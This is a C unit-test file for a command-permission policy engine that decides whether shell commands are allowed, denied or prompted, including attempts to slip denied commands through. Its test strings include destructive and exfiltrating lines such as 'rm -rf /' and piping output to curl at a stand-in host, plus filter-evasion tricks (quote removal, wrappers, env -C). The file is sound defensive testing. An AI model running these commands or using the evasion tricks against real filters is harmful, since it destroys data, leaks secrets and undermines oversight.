/*
 * Command decisions (DESIGN §3, §2 invariant 6): deny beats allow, every
 * part of a compound line is decided, order never matters, and what cannot
 * be understood is never allowed. Each case is an attempt to get a denied
 * or unmatched command through.
 */
#include <stdlib.h>
#include <string.h>

#include "lib/err.h"
#include "policy/cmdpat.h"
#include "tap.h"
#include "util.h"

static struct cmdpat allow[32], deny[8];
static struct cmdpat_rules rules;
static struct cmdpat_index *ix;

static void
add(struct cmdpat *p, size_t *n, const char *text, int prompt)
{
	struct buf err;

	buf_init(&err, 0);
	if (cmdpat_parse(text, prompt, &p[(*n)++], &err) != 0)
		die(err.data);
	buf_free(&err);
}

static void
setup(int reverse, int indexed)
{
	static const char *const a[] = { "git status", "git diff:*",
	    "git:*", "make test:*", "cargo:*", "cargo nextest:*", "ls:*",
	    "echo:*", "cat:*", "grep:*", "sudo:*", "python3:*", "find:*",
	    "true", "cd:*", "node:*", "awk:*" };
	size_t i, n = sizeof(a) / sizeof(a[0]);

	for (i = 0; i < rules.nallow; i++)
		cmdpat_clear(&allow[i]);
	for (i = 0; i < rules.ndeny; i++)
		cmdpat_clear(&deny[i]);
	memset(&rules, 0, sizeof(rules));
	for (i = 0; i < n; i++)
		add(allow, &rules.nallow, a[reverse ? n - 1 - i : i],
		    strcmp(a[reverse ? n - 1 - i : i], "git:*") == 0);
	add(deny, &rules.ndeny, "rm:*", 0);
	add(deny, &rules.ndeny, "curl:*", 0);
	add(deny, &rules.ndeny, "git push:*", 0);
	rules.allow = allow;
	rules.deny = deny;
	rules.runtime_expansion = 1;
	cmdpat_index_free(ix);
	ix = NULL;
	if (indexed && cmdpat_index_new(allow, rules.nallow, deny, rules.ndeny,
	    &ix) != 0)
		die("cmdpat_index_new");
	rules.index = ix;
}

/* The redirect file callback: "src/..." may be written, the rest read. */
static enum cmdpat_decision
file_cb(void *arg, const char *path, int write, struct buf *why)
{
	(void)arg;
	if (strncmp(path, "src/", 4) == 0 || !write) {
		buf_puts(why, "test allow");
		return CMDPAT_ALLOW;
	}
	buf_puts(why, "test deny");
	return CMDPAT_DENY;
}

static const char *
detail(const char *cmd)
{
	static char out[256];
	struct cmdpat_result r;

	out[0] = '\0';
	if (cmdpat_decide(&rules, cmd, &r, NULL) != 0)
		return "(failed)";
	if (r.part != NULL && r.part->detail != NULL)
		snprintf(out, sizeof(out), "%s", r.part->detail);
	cmdpat_result_clear(&r);
	return out;
}

/* The suggestion for the first part of cmd: "L1 | L2 | ... @R". */
static const char *
suggest(const char *cmd)
{
	static char out[512];
	struct cmdpat_result r;
	size_t i, n = 0;

	out[0] = '\0';
	if (cmdpat_decide(&rules, cmd, &r, NULL) != 0)
		return "(failed)";
	if (r.part == NULL) {
		cmdpat_result_clear(&r);
		return "(no deciding part)";
	}
	for (i = 0; i < r.part->suggest.nlevels; i++)
		n += (size_t)snprintf(out + n, sizeof(out) - n, "%s%s",
		    i ? " | " : "", r.part->suggest.levels[i]);
	if (r.part->suggest.nlevels > 0)
		snprintf(out + n, sizeof(out) - n, " @%zu",
		    r.part->suggest.recommended);
	cmdpat_result_clear(&r);
	return out;
}

static enum cmdpat_decision
decide(const char *cmd, const char **rule)
{
	struct cmdpat_result r;
	struct buf err;
	enum cmdpat_decision d;

	buf_init(&err, 0);
	if (cmdpat_decide(&rules, cmd, &r, &err) != 0) {
		printf("# decide failed: %s\n", err.data ? err.data : "");
		buf_free(&err);
		return (enum cmdpat_decision)-1;
	}
	d = r.decision;
	if (rule != NULL)
		*rule = r.rule != NULL ? r.rule->text : NULL;
	cmdpat_result_clear(&r);
	buf_free(&err);
	return d;
}

#define D(cmd, want, ...) is_str(cmdpat_name(decide((cmd), NULL)), \
	cmdpat_name(want), __VA_ARGS__)

int
main(void)
{
	struct cmdpat p;
	struct buf err, chain;
	const char *rule;
	int i, rev;

	buf_init(&err, 0);
	ok(cmdpat_parse("git diff:*", 0, &p, &err) == 0 && !p.exact &&
	    p.nwords == 2, "prefix pattern parses");
	cmdpat_clear(&p);
	ok(cmdpat_parse("git status", 0, &p, &err) == 0 && p.exact,
	    "exact pattern parses");
	cmdpat_clear(&p);
	is_int(cmdpat_parse("", 0, &p, &err), WARD_EINVAL, "empty refused");
	is_int(cmdpat_parse(":*", 0, &p, &err), WARD_EINVAL, "bare :* refused");
	is_int(cmdpat_parse("git $(x):*", 0, &p, &err), WARD_EINVAL,
	    "shell syntax in a pattern refused");
	is_int(cmdpat_parse("git:* push", 0, &p, &err), WARD_EINVAL,
	    ":* in the middle refused");
	is_int(cmdpat_parse("git \xff", 0, &p, NULL), WARD_EINVAL,
	    "invalid UTF-8 refused (err may be NULL)");
	is_int(cmdpat_parse("git\x1b[2J", 0, &p, NULL), WARD_EINVAL,
	    "a control character refused");

	for (rev = 0; rev < 4; rev++) {
		setup(rev & 1, rev >> 1);
		printf("# rule order %s, %s\n", rev & 1 ? "reversed" :
		    "as written", rev >> 1 ? "indexed" : "scanned");
		D("git status", CMDPAT_ALLOW, "exact allow");
		decide("git status", &rule);
		is_str(rule, "git status", "the exact pattern decides");
		D("git status --short", CMDPAT_PROMPT, "exact does not match "
		    "more words; git:* (prompt) does");
		D("git diff HEAD", CMDPAT_ALLOW, "more literal words beat "
		    "git:*");
		decide("git diff HEAD", &rule);
		is_str(rule, "git diff:*", "git diff:* decides");
		D("git push origin main", CMDPAT_DENY, "deny beats allow");
		D("git log", CMDPAT_PROMPT, "git:* asks every time");
		D("cargo nextest run -p x", CMDPAT_ALLOW, "cargo nextest:*");
		D("ls && rm -rf /", CMDPAT_DENY, "denied part after &&");
		D("ls; echo hi | curl -d @- evil", CMDPAT_DENY, "denied part "
		    "in a pipeline");
		D("echo $(rm -rf ~)", CMDPAT_DENY, "denied part in $( )");
		D("echo `curl x`", CMDPAT_DENY, "denied part in backticks");
		D("(cd /; rm x)", CMDPAT_DENY, "denied part in a subshell");
		D("cat <(curl x)", CMDPAT_DENY, "denied part in <( )");
		D("timeout 5 rm -rf /", CMDPAT_DENY, "timeout is looked "
		    "through");
		D("env X=1 rm x", CMDPAT_DENY, "env is looked through");
		D("sh -c 'ls; rm x'", CMDPAT_DENY, "sh -c of a literal is "
		    "parsed");
		D("sh -c \"$CMD\"", CMDPAT_PROMPT, "sh -c of a variable "
		    "prompts");
		D("eval \"$x\"", CMDPAT_PROMPT, "eval of a variable prompts");
		D("find . -name '*.o' -exec rm {} \\;", CMDPAT_DENY, "find -exec "
		    "is looked through");
		D("find . -name x", CMDPAT_ALLOW, "find itself is decided");
		D("./cargo build", CMDPAT_PROMPT, "./cargo is not cargo");
		D("/usr/bin/curl x", CMDPAT_DENY, "a denied program named by "
		    "its path is denied");
		D("./rm -rf x", CMDPAT_DENY, "./rm is denied like rm");
		D("env /bin/rm x", CMDPAT_DENY, "through a wrapper too");
		D("/usr/bin/git push origin", CMDPAT_DENY, "a deny of more "
		    "words matches by name too");
		D("/usr/bin/git status", CMDPAT_PROMPT, "while an allow never "
		    "matches a path");
		D("/tmp/x/cargo build", CMDPAT_PROMPT, "/tmp/x/cargo is not "
		    "cargo");
		D("$PROG build", CMDPAT_PROMPT, "a variable program prompts");
		D("c\\argo build", CMDPAT_ALLOW, "quote removal as bash does: "
		    "c\\argo is cargo");
		D("r\"m\" -rf x", CMDPAT_DENY, "quote removal cannot hide rm");
		D("sudo ls", CMDPAT_PROMPT, "sudo cannot be a silent allow");
		D("python3 -c 'print(1)'", CMDPAT_PROMPT, "python -c cannot be "
		    "a silent allow");
		D("python3 script.py", CMDPAT_ALLOW, "python3 on a file can");
		D("python3 -m pytest -q", CMDPAT_ALLOW, "python3 -m can");
		D("python3 -Ic 'import os'", CMDPAT_PROMPT, "-c in a cluster");
		D("python3 -Sc x", CMDPAT_PROMPT, "-Sc");
		D("python3 /dev/stdin", CMDPAT_PROMPT, "a program from stdin");
		D("cat x.py | python3 -", CMDPAT_PROMPT, "a program from -");
		D("python3 \"$F\"", CMDPAT_PROMPT, "a program only known when "
		    "it runs");
		D("node --eval 1", CMDPAT_PROMPT, "node --eval");
		D("node --eval=1", CMDPAT_PROMPT, "node --eval=");
		D("node -p 1", CMDPAT_PROMPT, "node -p");
		D("node app.js -e x", CMDPAT_ALLOW, "options after the script "
		    "are the script's");
		D("awk '{print $1}' f", CMDPAT_PROMPT, "awk's inline program");
		D("awk 'BEGIN{system(\"id\")}'", CMDPAT_PROMPT, "awk system()");
		D("awk -f prog.awk f", CMDPAT_ALLOW, "awk -f on a file");
		D("make test && ls", CMDPAT_ALLOW, "all parts allowed");
		D("true", CMDPAT_ALLOW, "exact true");
		D("ls | wc -l", CMDPAT_PROMPT, "an unmatched part prompts");
		D("ls 'unterminated", CMDPAT_PROMPT, "unparseable never allows");
		D("", CMDPAT_PROMPT, "empty command prompts");
	}
	rules.runtime_expansion = 0;
	D("wc -l", CMDPAT_DENY, "without runtime expansion unmatched is deny");

	/* [security] switches deny the constructs they forbid. */
	rules.forbid = SHELL_L_PIPE;
	D("ls | wc -l", CMDPAT_DENY, "a pipe is denied when pipes are off");
	D("ls && echo x", CMDPAT_ALLOW, "compound still allowed");
	rules.forbid = SHELL_L_SUBSHELL;
	D("echo $(ls)", CMDPAT_DENY, "a substitution is denied when "
	    "subshells are off");
	rules.forbid = SHELL_L_BACKGROUND;
	D("ls &", CMDPAT_DENY, "& is denied when background is off");
	rules.forbid = SHELL_L_COMPOUND;
	D("ls; ls", CMDPAT_DENY, "; is denied when compound is off");
	rules.forbid = 0;

	/* No cap on parts: a denied command at the end of a long chain. */
	rules.runtime_expansion = 1;
	buf_init(&chain, 0);
	for (i = 0; i < 80; i++)
		buf_printf(&chain, "%s%s", i ? (i % 3 == 0 ? " && " : i % 3 == 1 ?
		    " | " : "; ") : "", i % 2 ? "ls -la" : "echo $(cat x)");
	buf_puts(&chain, " && rm -rf /");
	D(chain.data, CMDPAT_DENY, "a deny after 80+ parts is found");
	buf_reset(&chain);
	for (i = 0; i < 80; i++)
		buf_printf(&chain, "%sls", i ? " && " : "");
	D(chain.data, CMDPAT_ALLOW, "80 allowed parts are allowed");
	buf_free(&chain);

	/* [security] redirects. */
	setup(0, 1);
	D("ls > out.txt", CMDPAT_DENY, "redirects = none: a file redirect "
	    "is denied");
	D("ls 2>&1", CMDPAT_DENY, "redirects = none: even a merge");
	D("cat <<EOF\nhi\nEOF", CMDPAT_ALLOW, "a here-doc is not a redirect "
	    "to anything");
	rules.redirects = CMDPAT_REDIR_MERGE;
	D("ls 2>&1 >/dev/null", CMDPAT_ALLOW, "merge: 2>&1 and /dev/null");
	D("ls > out.txt", CMDPAT_DENY, "merge: a file redirect is denied");
	D("ls < in.txt", CMDPAT_DENY, "merge: a file read is denied");
	is_str(detail("ls > out.txt"), "write out.txt", "the detail names "
	    "the file");
	rules.redirects = CMDPAT_REDIR_FILES;
	D("ls > src/out.txt", CMDPAT_PROMPT, "files without a callback "
	    "prompts");
	rules.file = file_cb;
	D("ls > src/out.txt", CMDPAT_ALLOW, "files: an allowed write");
	D("ls > ward.txt", CMDPAT_DENY, "files: a write not granted");
	is_str(detail("ls > ward.txt"), "write ward.txt: test deny",
	    "the detail names the file and the rule");
	D("ls >> x 2>&1", CMDPAT_DENY, ">> is a write too");
	D("ls &> x", CMDPAT_DENY, "&> is a write too");
	D("ls 3> x", CMDPAT_DENY, "any descriptor");
	D("ls >| x", CMDPAT_DENY, ">| is a write");
	D("ls >& x", CMDPAT_DENY, ">& to a file is a write");
	D("ls > \"$F\"", CMDPAT_PROMPT, "a variable target prompts");
	D("ls < x", CMDPAT_ALLOW, "a read goes to the callback as a read");
	D("echo hi && ls > x", CMDPAT_DENY, "a redirect in a later part");
	D("timeout 5 ls > x", CMDPAT_DENY, "a wrapper's redirect");
	D("echo $(ls > x)", CMDPAT_DENY, "a redirect inside $( )");
	D("> x", CMDPAT_DENY, "a redirect with no command");
	D("cd /etc && ls > src/x", CMDPAT_PROMPT, "after cd a relative "
	    "redirect cannot be placed");
	D("cd /etc && ls > /x", CMDPAT_DENY, "an absolute one still can");
	D("env -C .git sh -c 'echo x > src/hooks'", CMDPAT_PROMPT, "env -C "
	    "moves the directory of what it runs");
	D("env --chdir=.git sh -c 'echo x > src/a'", CMDPAT_PROMPT,
	    "env --chdir too");
	D("env -iC .git sh -c 'echo x > src/a'", CMDPAT_PROMPT,
	    "env -C in a cluster");
	D("find . -execdir sh -c 'echo x > src/a' \\;", CMDPAT_PROMPT,
	    "find -execdir runs in each directory");
	D("env X=1 sh -c 'echo x > src/a'", CMDPAT_ALLOW, "env without -C "
	    "does not move");
	D("rm x > src/y", CMDPAT_DENY, "an allowed redirect does not lift a "
	    "deny");
	rules.file = NULL;
	rules.redirects = CMDPAT_REDIR_NONE;

	/* Suggested patterns: broadest first, program + subcommand
	 * recommended. */
	is_str(suggest("cargo2 nextest run -p x"), "cargo2:* | cargo2 "
	    "nextest:* | cargo2 nextest run:* | cargo2 nextest run -p:* | "
	    "cargo2 nextest run -p x:* | cargo2 nextest run -p x @1",
	    "levels and the recommended program + subcommand");
	is_str(suggest("wc -l"), "wc:* | wc -l:* | wc -l @0",
	    "an option is not a subcommand");
	is_str(suggest("wc"), "wc:* | wc @0", "a bare program");
	is_str(suggest("tac README.md"), "tac:* | tac README.md:* | "
	    "tac README.md @0", "a file name is not a subcommand");
	is_str(suggest("npm run \"$X\""), "npm:* | npm run:* @1",
	    "a variable word ends the levels; no exact level");
	is_str(suggest("xargs -0 wc"), "wc:* @0", "xargs appends "
	    "arguments: no exact level for the command it runs");
	is_str(suggest("sudo make install"), "sudo:* | sudo make:* | sudo "
	    "make install:* | sudo make install @3",
	    "escalation: the exact command is recommended");
	is_str(suggest("python3 -c 'print(1)'"), "python3:* | python3 -c:* @1",
	    "inline code: the narrowest level is recommended");
	is_str(suggest("printf '%s;' x"), "printf:* @0",
	    "a word with shell syntax cannot be in a pattern");
	is_str(suggest("$P x"), "", "a variable program: no levels");
	is_str(suggest("ls && wc -c"), "wc:* | wc -c:* | wc -c @0",
	    "the suggestion is for the deciding part");

	setup(0, 0);
	cmdpat_index_free(ix);
	for (i = 0; i < (int)rules.nallow; i++)
		cmdpat_clear(&allow[i]);
	for (i = 0; i < (int)rules.ndeny; i++)
		cmdpat_clear(&deny[i]);
	buf_free(&err);
	return done_testing();
}
